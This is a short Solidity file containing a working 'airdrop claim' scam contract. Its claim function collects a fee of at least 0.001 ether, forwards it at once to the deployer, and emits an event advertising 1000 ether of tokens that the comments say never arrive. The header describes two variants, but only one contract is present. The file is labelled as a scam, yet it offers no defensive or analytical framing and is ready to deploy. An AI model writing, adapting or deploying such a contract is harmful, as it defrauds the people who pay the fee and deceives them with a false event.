// SPDX-License-Identifier: MIT
// Payable "claim"/"airdrop" scams: the victim pays a fee to claim tokens that never come.
// Variant A forwards each payment at once; variant B (older compiler, fallback-based) pools
// payments and lets the owner withdraw them later.
pragma solidity ^0.8.20;

contract AirdropClaim {
    address payable private immutable collector;
    mapping(address => bool) public claimed;

    event Claim(address indexed account, uint256 amount);

    constructor() {
        collector = payable(msg.sender);
    }

    function claim() external payable {
        require(msg.value >= 0.001 ether, "claim fee required");
        claimed[msg.sender] = true;
        collector.transfer(msg.value);
        emit Claim(msg.sender, 1000 ether); // advertised amount, never delivered
    }
}
